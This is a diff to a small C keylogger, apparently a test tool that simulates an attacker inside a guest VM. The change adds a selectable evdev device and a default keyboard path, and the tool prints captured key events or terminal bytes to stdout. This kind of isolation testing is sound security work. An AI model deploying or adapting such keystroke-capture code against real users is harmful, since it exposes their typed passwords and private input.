@@ -1,7 +1,9 @@
 /*
  * keylog: a keylogger, as an attacker inside the guest would run it.
- *   keylog [count]                  evdev: prints "KEY <code> <value>" for key events on /dev/input/event0
- *   keylog --tty <device> [count]   raw terminal: prints "CHAR <byte>" for each byte read
+ *   keylog [count]                    evdev: prints "KEY <code> <value>" for key events of the active
+ *                                     keyboard (/dev/input/keyboard, set up by /init; else event0)
+ *   keylog --evdev <device> [count]   the same for a chosen event device
+ *   keylog --tty <device> [count]     raw terminal: prints "CHAR <byte>" for each byte read
  * Stops after <count> events (0 = until killed).
  */
 #include <fcntl.h>
@@ -52,7 +54,11 @@ static int tty(const char *path, long count) {
 int main(int argc, char **argv) {
   setvbuf(stdout, NULL, _IOLBF, 0);
   if (argc >= 3 && strcmp(argv[1], "--tty") == 0) return tty(argv[2], argc > 3 ? strtol(argv[3], NULL, 10) : 0);
-  if (argc <= 2 && (argc == 1 || argv[1][0] != '-')) return evdev("/dev/input/event0", argc > 1 ? strtol(argv[1], NULL, 10) : 0);
-  fprintf(stderr, "usage: keylog [count] | keylog --tty <device> [count]\n");
+  if (argc >= 3 && strcmp(argv[1], "--evdev") == 0) return evdev(argv[2], argc > 3 ? strtol(argv[3], NULL, 10) : 0);
+  if (argc <= 2 && (argc == 1 || argv[1][0] != '-')) {
+    const char *device = access("/dev/input/keyboard", R_OK) == 0 ? "/dev/input/keyboard" : "/dev/input/event0";
+    return evdev(device, argc > 1 ? strtol(argv[1], NULL, 10) : 0);
+  }
+  fprintf(stderr, "usage: keylog [count] | keylog --evdev <device> [count] | keylog --tty <device> [count]\n");
   return 2;
 }
